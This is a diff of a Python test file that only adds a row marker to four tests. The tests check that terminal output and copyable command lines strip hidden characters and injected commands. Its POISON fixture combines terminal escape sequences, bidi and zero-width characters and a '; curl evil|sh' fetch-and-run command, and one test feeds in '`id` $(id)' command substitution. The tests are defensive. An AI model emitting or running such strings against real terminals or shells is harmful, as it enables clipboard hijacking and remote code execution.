@@ -15,7 +15,7 @@ from bascule.policy.visible import has_hidden, json_visible
 POISON = "x\x1b]52;c;aGk=\x07\x1b[2J\x9b1m\x7f\u202e\u200b\U000e0041;curl evil|sh #"
 
 
-@pytest.mark.row("S59")
+@pytest.mark.row("F2", "S59")
 def test_only_our_own_colours_pass():
     ours = Terminal(colour=True).style("bold", "bold") + " é 👩\u200d👧\tx\n"
     assert screened(ours) == ours
@@ -24,7 +24,7 @@ def test_only_our_own_colours_pass():
     )
 
 
-@pytest.mark.row("S59")
+@pytest.mark.row("F2", "S59")
 def test_json_on_a_terminal_means_the_same_and_hides_nothing():
     value = {POISON: [POISON, "é 漢"]}
     text = json_visible(json.dumps(value, ensure_ascii=False))
@@ -33,7 +33,7 @@ def test_json_on_a_terminal_means_the_same_and_hides_nothing():
     assert "é 漢" in text
 
 
-@pytest.mark.row("S59")
+@pytest.mark.row("F2", "S59")
 def test_a_command_to_copy_is_one_word_for_each_word_and_visible():
     line = command_line("sessions", "answer", "s1", f"{POISON}\n`id` $(id)")
     assert not has_hidden(line)
@@ -42,7 +42,7 @@ def test_a_command_to_copy_is_one_word_for_each_word_and_visible():
     assert len(shlex.split(line)) == 5
 
 
-@pytest.mark.row("S59")
+@pytest.mark.row("F2", "S59")
 def test_an_id_of_an_older_log_can_not_begin_a_second_command():
     asked = PermissionRequested(POISON, "Bash", "t", "execute", Raw(b"{}"), "f" * 64, ())
     said = elsewhere("s1", asked)
